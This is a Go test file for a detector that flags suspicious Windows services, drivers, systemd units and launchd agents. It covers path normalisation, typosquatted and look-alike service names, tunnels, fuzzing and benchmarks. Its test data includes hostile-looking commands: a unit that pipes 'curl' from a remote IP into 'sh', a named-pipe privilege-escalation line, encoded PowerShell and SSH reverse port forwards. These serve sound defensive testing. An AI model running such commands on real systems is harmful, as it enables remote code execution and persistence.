package service

import (
	"strings"
	"testing"
	"time"
	"unicode/utf8"

	"github.com/osquery-rollcall/rollcall/tests/cputime"
)

func TestNormalizeImagePath(t *testing.T) {
	for _, c := range []struct {
		in      string
		kind    Kind
		program string
		args    string
		flags   string // b(are) u(nquoted) s(tream) h(ost)
	}{
		{``, WindowsService, ``, ``, ``},
		{"  \t ", WindowsService, ``, ``, ``},
		{`""`, WindowsService, ``, ``, ``},
		{`\SystemRoot\System32\drivers\x.sys`, Driver, `C:\Windows\System32\drivers\x.sys`, ``, ``},
		{`\systemroot\system32\DRIVERS\x.sys`, Driver, `C:\Windows\system32\DRIVERS\x.sys`, ``, ``},
		{`system32\DRIVERS\x.sys`, Driver, `C:\Windows\system32\DRIVERS\x.sys`, ``, ``},
		{`System32\VBoxService.exe`, WindowsService, `C:\Windows\System32\VBoxService.exe`, ``, ``},
		{`\??\C:\a\b.sys`, Driver, `C:\a\b.sys`, ``, ``},
		{`\??\UNC\srv\s\b.sys`, Driver, `\\srv\s\b.sys`, ``, `h`},
		{`\\?\C:\a b\b.sys`, Driver, `C:\a b\b.sys`, ``, ``},
		{`\Device\HarddiskVolume3\Windows\x.sys`, Driver, `C:\Windows\x.sys`, ``, ``},
		{`\Device\HarddiskVolumeShadowCopy1\x.sys`, Driver, `\Device\HarddiskVolumeShadowCopy1\x.sys`, ``, ``},
		{`\\\.\C:\x\y.exe`, WindowsService, `C:\x\y.exe`, ``, ``},
		{`\??\\\?\\??\\\.\\DosDevices\??\UNC\\?\UNC\srv\s\b.exe`, WindowsService, `\\srv\s\b.exe`, ``, `h`},
		{`\Device\Mup\srv\ADMIN$\x.exe`, WindowsService, `\\srv\ADMIN$\x.exe`, ``, `h`},
		{`SysmonDrv.sys`, Driver, `C:\Windows\SysmonDrv.sys`, ``, ``},
		{`C:\Users\m\Desktop/x.sys`, Driver, `C:\Users\m\Desktop\x.sys`, ``, ``},
		{`%SystemRoot%\System32\lsass.exe`, WindowsService, `C:\Windows\System32\lsass.exe`, ``, ``},
		{`%SYSTEMROOT%\a.exe`, WindowsService, `C:\Windows\a.exe`, ``, ``},
		{`%windir%\system32\svchost.exe -k iissvcs`, WindowsService, `C:\Windows\system32\svchost.exe`, `-k iissvcs`, ``},
		{`"%PROGRAMFILES%\W M P\w.exe"`, WindowsService, `C:\Program Files\W M P\w.exe`, ``, ``},
		{`%ProgramFiles(x86)%\a\b.exe -s`, WindowsService, `C:\Program Files (x86)\a\b.exe`, `-s`, `u`},
		{`%COMSPEC% /c x`, WindowsService, `C:\Windows\System32\cmd.exe`, `/c x`, ``},
		{`%nothing%\a.exe`, WindowsService, `%nothing%\a.exe`, ``, ``},
		{`100%`, WindowsService, `100%`, ``, `b`},
		{`%%%windir%%%\a.exe`, WindowsService, `%%C:\Windows%%\a.exe`, ``, ``},
		{`"C:\Program Files\a\b.exe" -k run`, WindowsService, `C:\Program Files\a\b.exe`, `-k run`, ``},
		{`"C:\Program Files"\a\b.exe -k run`, WindowsService, `C:\Program Files\a\b.exe`, `-k run`, ``},
		{`C:\Program Files\A B\c d.exe -k run.exe`, WindowsService, `C:\Program Files\A B\c d.exe`, `-k run.exe`, `u`},
		{`C:\Program Files (x86)\x\y.exe`, WindowsService, `C:\Program Files (x86)\x\y.exe`, ``, `u`},
		{`C:/Program Files/x/y.EXE /svc`, WindowsService, `C:\Program Files\x\y.EXE`, `/svc`, `u`},
		{`C:\Windows\System32\cmd /c C:\x.exe`, WindowsService, `C:\Windows\System32\cmd`, `/c C:\x.exe`, ``},
		{`C:\Windows\System32\rundll32 C:\x.dll,a`, WindowsService, `C:\Windows\System32\rundll32`, `C:\x.dll,a`, ``},
		{`cmd.exe /c a.exe`, WindowsService, `cmd.exe`, `/c a.exe`, `b`},
		{`powershell a.exe`, WindowsService, `powershell`, `a.exe`, `b`},
		{`c:\oracle\bin\TNSLSNR ORCL`, WindowsService, `c:\oracle\bin\TNSLSNR`, `ORCL`, ``},
		{`"C:\unclosed\a b.exe`, WindowsService, `C:\unclosed\a b.exe`, ``, ``},
		{`C:\Windows\Temp\..\System32\.\x.exe`, WindowsService, `C:\Windows\System32\x.exe`, ``, ``},
		{`C:\..\..\x.exe`, WindowsService, `C:\x.exe`, ``, ``},
		{`C:\PROGRA~2\x\y.exe`, WindowsService, `C:\Program Files (x86)\x\y.exe`, ``, ``},
		{`\\10.0.0.1\ADMIN$\x.exe -s`, WindowsService, `\\10.0.0.1\ADMIN$\x.exe`, `-s`, `h`},
		{`C:\a\b.txt:x.exe`, WindowsService, `C:\a\b.txt:x.exe`, ``, `s`},
		{"C:\\a\\b.exe\x00-s", WindowsService, `C:\a\b.exe`, `-s`, ``},
		{`-@/usr/bin/a a -x`, Systemd, `/usr/bin/a`, `a -x`, ``},
		{`+/usr/bin/./x/../a`, Systemd, `/usr/bin/a`, ``, ``},
		{`"/opt/a b/c" d`, Systemd, `/opt/a b/c`, `d`, ``},
		{`systemctl start x`, Systemd, `systemctl`, `start x`, `b`},
		{`/usr/sbin/cfprefsd agent`, Launchd, `/usr/sbin/cfprefsd`, `agent`, ``},
	} {
		img := NormalizeImagePath(c.in, c.kind)
		flags := ""
		for _, f := range []struct {
			on   bool
			mark string
		}{{img.Bare, "b"}, {img.Unquoted, "u"}, {img.Stream, "s"}, {img.Host != "", "h"}} {
			if f.on {
				flags += f.mark
			}
		}
		if img.Program != c.program || img.Args != c.args || flags != c.flags {
			t.Errorf("%q: %q args %q flags %q, want %q args %q flags %q", c.in, img.Program, img.Args, flags, c.program, c.args, c.flags)
		}
	}
}

func TestParse(t *testing.T) {
	for in, want := range map[string]Type{
		"0x10": 0x10, "16": 0x10, "0xE0": 0xe0, "224": 0xe0, "user mode service": TypeOwnProcess, "kernel mode driver": TypeKernelDriver,
		"file system driver": TypeFileSystemDriver, "": 0, "Benutzermodusdienst": 0, "-1": 0, "0x1ffffffff": 0, "Kernel Driver": TypeKernelDriver,
	} {
		if got := ParseType(in); got != want {
			t.Errorf("type %q is %#x, want %#x", in, got, want)
		}
	}
	if !ParseType("0xd0").PerUser() || !ParseType("user mode own process template instance").PerUser() || ParseType("0x60").PerUser() || ParseType("0x10").PerUser() {
		t.Error("per-user types")
	}
	for in, want := range map[string]Start{"auto start": 2, "Auto Start": 2, "2": 2, "0x3": 3, "demand start": 3, "manual": 3, "boot start": 0, "disabled": 4, "": StartUnknown, "9": StartUnknown, "x": StartUnknown} {
		if got := ParseStart(in); got != want {
			t.Errorf("start %q is %d, want %d", in, got, want)
		}
	}
	for _, c := range []struct {
		t          Type
		name, path string
		want       Kind
	}{
		{0x1, "x", "x", Driver}, {0x10, "x", "/usr/bin/x", WindowsService}, {0, "x", "/usr/bin/x", Systemd}, {0, "com.x.y", "/usr/local/bin/x", Launchd},
		{0, "x", "/Library/x", Launchd}, {0, "x", `C:\x.SYS`, Driver}, {0, "x", `C:\x.exe`, WindowsService}, {0, "x.service", "-udevadm info", Systemd},
		{0, "com.docker.service", `"C:\Program Files\Docker\com.docker.service"`, WindowsService},
	} {
		if got := KindOf(c.t, c.name, c.path); got != c.want {
			t.Errorf("%v is %s", c, got)
		}
	}
}

func names(f []Feature) string {
	var out []string
	for _, x := range f {
		out = append(out, x.Name)
	}
	return strings.Join(out, " ")
}

func TestFeatures(t *testing.T) {
	for _, c := range []struct {
		what string
		in   Install
		want string
	}{
		{"nothing known", Install{}, ""},
		{"per-user template", Install{Name: "CDPUserSvc_1a2b3", ImagePath: `C:\Windows\system32\svchost.exe -k UnistackSvcGroup`, Type: 0xe0}, "per_user_template"},
		{"template with another program", Install{Name: "CDPUserSvc_1a2b3", ImagePath: `C:\Windows\system32\cmd.exe /c x`, Type: 0xe0}, "shell_program"},
		{"template with an unknown program", Install{Name: "abc_1a2b3", ImagePath: `C:\Windows\system32\evil.exe`, Type: 0xe0}, ""},
		{"svchost with a library of a user", Install{Name: "x", ImagePath: `%SystemRoot%\System32\svchost.exe -k netsvcs`, ServiceDLL: `C:\Users\Public\x.dll`, Type: 0x20}, "everybodys_directory"},
		{"svchost with its own", Install{Name: "x", ImagePath: `%SystemRoot%\System32\svchost.exe -k netsvcs`, ServiceDLL: `%SystemRoot%\System32\x.dll`, Type: 0x20}, ""},
		{"svchost without a group", Install{Name: "x", ImagePath: `%SystemRoot%\System32\svchost.exe`, Type: 0x20}, "empty_host"},
		{"a drawn name among programs of 32 bits", Install{Name: "qzxvkwrt", ImagePath: `C:\Windows\SysWOW64\qzxvkwrt.exe`, Type: 0x10}, "random_name random_program"},
		{"svchost with nearly a group's name", Install{Name: "x", ImagePath: `%SystemRoot%\System32\svchost.exe -k netsvc`, Type: 0x20}, "near_system_name"},
		{"svchost with the group of an application", Install{Name: "x", ImagePath: `%SystemRoot%\System32\svchost.exe -k AcmeGroup -s x`, Type: 0x20}, ""},
		{"a program among definitions", Install{Name: "com.acme.agent", ImagePath: "/Library/LaunchAgents/acme.app/Contents/MacOS/agent", Kind: Launchd}, "odd_directory"},
		{"a program among a user's definitions", Install{Name: "com.acme.agent", ImagePath: "/Users/al/Library/LaunchAgents/agent", Kind: Launchd}, "odd_directory"},
		{"a program of systemd's own", Install{Name: "systemd-resolved.service", ImagePath: "/usr/lib/systemd/systemd-resolved", Kind: Systemd}, ""},
		{"a program among units", Install{Name: "agent.service", ImagePath: "/usr/lib/systemd/system/agent", Kind: Systemd}, "odd_directory"},
		{"a port of another host forwarded", Install{Name: "link.service", ImagePath: "/usr/bin/ssh -NT -R 2222:localhost:22 al@198.51.100.4", Kind: Systemd}, "tunnel_tool"},
		{"the same on Windows", Install{Name: "Link", ImagePath: `C:\Windows\System32\OpenSSH\ssh.exe -N -R 2222:127.0.0.1:22 al@198.51.100.4`, Type: 0x10}, "tunnel_tool"},
		{"svchost with nearly a service's name", Install{Name: "wuausrv", ImagePath: `%SystemRoot%\System32\svchost.exe -k netsvcs`, Type: 0x20}, "near_system_name"},
		{"ssh without forwarding", Install{Name: "link.service", ImagePath: "/usr/bin/ssh -N al@198.51.100.4", Kind: Systemd}, ""},
		{"a path with launchd's usual blank", Install{Name: "com.acme.agent", ImagePath: "/Users/al/Library/Application Support/.acme/agent --run", Kind: Launchd}, "hidden_file"},
		{"another such path", Install{Name: "com.acme.agent", ImagePath: "/Library/Application Support/Acme/agent", Kind: Launchd}, ""},
		{"a daemon of a name like another's", Install{Name: "slapd.service", ImagePath: "/usr/sbin/slapd", Kind: Systemd}, ""},
		{"words between hyphens", Install{Name: "orzaq-usb-helper.service", ImagePath: "/usr/bin/orzaq-usb", Kind: Systemd}, ""},
		{"no words between hyphens", Install{Name: "qzxvk-wrtbj.service", ImagePath: "/usr/bin/agent", Kind: Systemd}, "random_name"},
		{"a shell without a directory in a unit", Install{Name: "led.service", ImagePath: `bash -c 'echo 1 > /sys/class/leds/x\:y/rx'`}, "shell_program"},
		{"a name that ends in svchost", Install{Name: "NetTcp", ImagePath: `C:\Windows\Microsoft.NET\Framework64\v4.0.30319\SMSvcHost.exe`, Type: 0x20}, ""},
		{"the name of Windows' own service", Install{Name: "Spooler", ImagePath: `C:\Tools\p.exe`, Type: 0x10}, "root_directory system_service_name"},
		{"nearly the name of one", Install{Name: "wuauserv1", ImagePath: `C:\Tools\p.exe`, Type: 0x10}, "root_directory"},
		{"letters that look alike", Install{Name: "wuаuserv", ImagePath: `C:\Tools\p.exe`, Type: 0x10}, "odd_characters root_directory near_system_name"},
		{"invisible letters", Install{Name: "BI\u200bTS", ImagePath: `"C:\Program Files\x\p.exe"`, Type: 0x10}, "odd_characters"},
		{"digits for letters", Install{Name: "w1nmgmt", ImagePath: `C:\Tools\p.exe`, Type: 0x10}, "root_directory near_system_name"},
		{"a translation", Install{Name: "Диспетчер печати", ImagePath: `C:\Windows\System32\spoolsv.exe`, Type: 0x10}, ""},
		{"a web server's account installed it", Install{Name: "helper", ImagePath: `"C:\Program Files\x\helper.exe"`, Type: 0x10, Installer: `IIS APPPOOL\DefaultAppPool`}, "unusual_installer"},
		{"driver of a user", Install{Name: "helper", ImagePath: `C:\Users\b\helper.sys`, Type: 1}, "user_directory driver_place"},
		{"unquoted", Install{Name: "helper", ImagePath: `C:\Program Files\My App\helper.exe`, Type: 0x10}, "unquoted_path"},
		{"Defender's own driver", Install{Name: "MpKsl0a1b2c3d", ImagePath: `\??\C:\ProgramData\Microsoft\Windows Defender\Definition Updates\{X}\MpKslDrv.sys`, Type: 1}, ""},
		{"another driver there", Install{Name: "other", ImagePath: `C:\ProgramData\Microsoft\x\other.sys`, Type: 1}, "program_data"},
	} {
		if got := names(Features(c.in).Features); got != c.want {
			t.Errorf("%s: %q, want %q", c.what, got, c.want)
		}
	}
	if f := Features(Install{Name: "CDPUserSvc_1a2b3", ImagePath: `C:\Windows\system32\svchost.exe -k UnistackSvcGroup`, Type: 0xe0}); f.Template != "CDPUserSvc" {
		t.Errorf("template %q", f.Template)
	}
}

func TestNear(t *testing.T) {
	l := known()
	for name, want := range map[string]string{
		"wuaserv": "wuauserv", "wuauservv": "wuauserv", "uwauserv": "wuauserv", "wuauserv": "", "wuauserv2": "", "bits": "", "sppsvc2": "", "something": "", "schedu1e": "schedule",
	} {
		if got := near(name, l.ordered, 6); got != want {
			t.Errorf("%s is near %q, want %q", name, got, want)
		}
	}
	for name, want := range map[string]string{"scvhost": "svchost", "svch0st": "svchost", "lsasss": "lsass", "isass": "lsass", "svchost": "", "myservice": ""} {
		if got := near(name, l.shown, 5); got != want {
			t.Errorf("%s is near %q, want %q", name, got, want)
		}
	}
}

func seeds(f *testing.F) {
	for _, s := range []string{
		``, `"`, `%`, `%%`, `\`, `\\`, `\\.\pipe\`, `%COMSPEC% /c echo a > \\.\pipe\a`, `C:\Program Files\a b\c.exe -x`, `\??\UNC\`, `\Device\HarddiskVolume`, `\\\.\`,
		`rundll32.exe C:\Users\A~1\x.dll,a`, `/bin/sh -c "a | b"`, `-@/usr/bin/x`, `powershell -enc SQBFAFgA`, "\x00\xff\xfe", `C:\..\..\..`, `:\`, `cmd /c "`, `a:b:c`,
	} {
		f.Add(s, "name", "0x10")
		f.Add(s, "wuаuserv_1a2b", "1")
	}
}

func FuzzNormalizeImagePath(f *testing.F) {
	seeds(f)
	f.Fuzz(func(t *testing.T, path, _, _ string) {
		for _, k := range []Kind{WindowsService, Driver, Systemd, Launchd, ""} {
			img := NormalizeImagePath(path, k)
			// A variable stands for at most eleven times its own length.
			if len(img.Program) > 12*len(path)+64 || len(img.Args) > 12*len(path)+64 {
				t.Fatalf("%q grew to %d and %d", path, len(img.Program), len(img.Args))
			}
			if k == WindowsService && img.Program != "" && !strings.ContainsAny(img.Program, "%\"") && strings.TrimSpace(img.Program) == img.Program {
				again := NormalizeImagePath(`"`+img.Program+`"`, k)
				if !strings.EqualFold(again.Program, img.Program) {
					t.Fatalf("%q: %q becomes %q", path, img.Program, again.Program)
				}
			}
		}
	})
}

func FuzzFeatures(f *testing.F) {
	seeds(f)
	f.Fuzz(func(t *testing.T, path, name, typ string) {
		kind := ParseType(typ)
		for _, k := range []Kind{"", WindowsService, Driver, Systemd, Launchd} {
			found := Features(Install{Kind: k, Name: name, ImagePath: path, Type: kind, Start: ParseStart(typ), Account: name, ServiceDLL: path, UnitPath: path, Installer: name})
			seen := map[string]bool{}
			for _, x := range found.Features {
				if x.Name == "" || x.Evidence == "" || x.Scale <= 0 || x.Scale > 2 || seen[x.Name] {
					t.Fatalf("%+v", x)
				}
				seen[x.Name] = true
				if len(x.Evidence) > 1024 {
					t.Fatalf("%d bytes of evidence", len(x.Evidence))
				}
				if utf8.ValidString(path) && utf8.ValidString(name) && !utf8.ValidString(x.Evidence) {
					t.Fatalf("evidence is not UTF-8: %q", x.Evidence)
				}
				if strings.ContainsAny(x.Evidence, "\n\r\x00") {
					t.Fatalf("evidence breaks lines: %q", x.Evidence)
				}
			}
		}
	})
}

func BenchmarkFeatures(b *testing.B) {
	known()
	for _, c := range []struct {
		name string
		in   Install
	}{
		{"ordinary", Install{Name: "Google Update Service (gupdate)", ImagePath: `"C:\Program Files (x86)\Google\Update\GoogleUpdate.exe" /svc`, Type: 0x10, Account: "LocalSystem"}},
		{"driver", Install{Name: "e1iexpress", ImagePath: `\SystemRoot\System32\drivers\e1i63x64.sys`, Type: 1}},
		{"random", Install{Name: "KgXItsbKgTJz", ImagePath: `%SYSTEMROOT%\duKhLYUZ.exe`, Type: 0x10, Account: "LocalSystem"}},
		{"getsystem", Install{Name: "tfmqxw", ImagePath: `cmd.exe /c echo tfmqxw > \\.\pipe\tfmqxw`, Type: 0x10, Account: "LocalSystem"}},
		{"unit", Install{Kind: Systemd, Name: "b.service", ImagePath: `/bin/sh -c "curl -fsSL http://203.0.113.7/x.sh | sh"`}},
	} {
		b.Run(c.name, func(b *testing.B) {
			b.ReportAllocs()
			for b.Loop() {
				Features(c.in)
			}
		})
	}
}

// TestFeaturesAreLinear gives hostile lines of the greatest length: the time must
// not grow faster than the text.
func TestFeaturesAreLinear(t *testing.T) {
	for name, unit := range map[string]string{
		"blanks": "a ", "paths": `c:\a `, "percent": "%", "quotes": `"`, "shares": `\\a\`, "pipes": `| \\.\pipe\ `, "carets": "^", "tildes": `\~`, "dots": `\..`, "start": "start /min ", "enc": "powershell -e ", "base64": "AAAA",
	} {
		short, long := strings.Repeat(unit, 4096/len(unit)), strings.Repeat(unit, MaxImagePath/len(unit))
		cost := func(s string) float64 {
			start := cputime.Start()
			Features(Install{Name: "x", ImagePath: `cmd.exe /c ` + s, Type: 0x10})
			return float64(start.Took())
		}
		a, b := min(cost(short), cost(short)), min(cost(long), cost(long))
		t.Logf("%-8s %8.0f us for 4 KiB, %8.0f us for 64 KiB", name, a/1000, b/1000)
		if b > 64*a+float64(200*time.Millisecond) {
			t.Errorf("%s: %.0f us for 4 KiB, %.0f us for 64 KiB", name, a/1000, b/1000)
		}
	}
}
